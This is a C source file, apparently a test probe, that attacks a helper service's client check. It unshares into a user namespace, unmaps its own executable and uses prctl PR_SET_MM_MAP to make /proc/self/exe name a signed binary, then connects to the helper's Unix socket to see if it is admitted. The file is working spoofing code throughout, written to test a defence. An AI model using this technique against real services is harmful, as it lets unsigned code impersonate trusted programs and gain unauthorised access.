// An attack, not a client: an unsigned program that enters a user namespace of its own, where it
// holds CAP_SYS_ADMIN, and replaces its own /proc/self/exe with the signed application through
// prctl(PR_SET_MM, PR_SET_MM_MAP), so that the signed code never runs. Then it connects to the
// helper and prints "swapped" and what the helper did: "hello" (admitted) or "closed".
//
//   exe_swap_probe SIGNED-EXECUTABLE SOCKET-PATH
//
// The kernel allows the swap only once nothing maps the old executable, so the work is done from
// a shared library (this file built a second time) after the program's own mappings are gone.

#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/prctl.h>
#include <poll.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

int ldSwapExecutableAndConnect(const char* replacement, const char* socketPath);

#ifdef LD_EXE_SWAP_MAIN

int main(int argc, char** argv) {
  if (argc != 3) return 64;
  return ldSwapExecutableAndConnect(argv[1], argv[2]);
}

#else

static void say(const char* text) { (void)write(1, text, strlen(text)); }

static _Noreturn void fail(const char* step) {
  char line[160];
  snprintf(line, sizeof line, "%s failed: %s\n", step, strerror(errno));
  say(line);
  _exit(1);
}

// Unmaps every mapping of the file that /proc/self/exe names.
static void unmapExecutable(void) {
  char exe[4096];
  const ssize_t length = readlink("/proc/self/exe", exe, sizeof exe - 1);
  if (length <= 0) fail("readlink");
  exe[length] = '\0';
  FILE* maps = fopen("/proc/self/maps", "re");
  if (maps == NULL) fail("maps");
  unsigned long ranges[64][2];
  int count = 0;
  char line[4352];
  while (count < 64 && fgets(line, sizeof line, maps)) {
    unsigned long start, end;
    int path = 0;
    if (sscanf(line, "%lx-%lx %*s %*s %*s %*s %n", &start, &end, &path) < 2 || path == 0) continue;
    line[strcspn(line, "\n")] = '\0';
    if (strcmp(line + path, exe) == 0) {
      ranges[count][0] = start;
      ranges[count][1] = end;
      ++count;
    }
  }
  fclose(maps);
  for (int i = 0; i < count; ++i) {
    if (munmap((void*)ranges[i][0], ranges[i][1] - ranges[i][0]) != 0) fail("munmap");
  }
}

// The memory layout as it is, from /proc/self/stat (fields 26-28 and 45-51), with a new exe.
static void replaceExecutable(int exe) {
  char stat[2048];
  const int fd = open("/proc/self/stat", O_RDONLY | O_CLOEXEC);
  const ssize_t got = fd < 0 ? -1 : read(fd, stat, sizeof stat - 1);
  if (got <= 0) fail("stat");
  close(fd);
  stat[got] = '\0';
  unsigned long field[53] = {0};
  char* cursor = strrchr(stat, ')') + 4;  // past ") S ", the state letter of field 3
  for (int index = 4; index <= 52 && *cursor; ++index) field[index] = strtoul(cursor, &cursor, 10);
  struct prctl_mm_map map = {
      .start_code = field[26], .end_code = field[27], .start_stack = field[28],
      .start_data = field[45], .end_data = field[46], .start_brk = field[47],
      .brk = (unsigned long)sbrk(0), .arg_start = field[48], .arg_end = field[49],
      .env_start = field[50], .env_end = field[51], .auxv = NULL, .auxv_size = 0,
      .exe_fd = (unsigned)exe,
  };
  if (prctl(PR_SET_MM, PR_SET_MM_MAP, (unsigned long)&map, sizeof map, 0) != 0) fail("PR_SET_MM_MAP");
}

int ldSwapExecutableAndConnect(const char* replacement, const char* socketPath) {
  const int exe = open(replacement, O_RDONLY | O_CLOEXEC);
  if (exe < 0) fail("open");
  if (unshare(CLONE_NEWUSER) != 0) fail("unshare");
  unmapExecutable();  // from here on, only this library and libc are left
  replaceExecutable(exe);
  say("swapped\n");
  const int connection = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0);
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  strncpy(address.sun_path, socketPath, sizeof address.sun_path - 1);
  if (connect(connection, (struct sockaddr*)&address, sizeof address) != 0) fail("connect");
  struct pollfd entry = {.fd = connection, .events = POLLIN};
  char packet[4096];
  const int answered = poll(&entry, 1, 5000) == 1 && recv(connection, packet, sizeof packet, 0) > 0;
  say(answered ? "hello\n" : "closed\n");
  _exit(0);
}

#endif
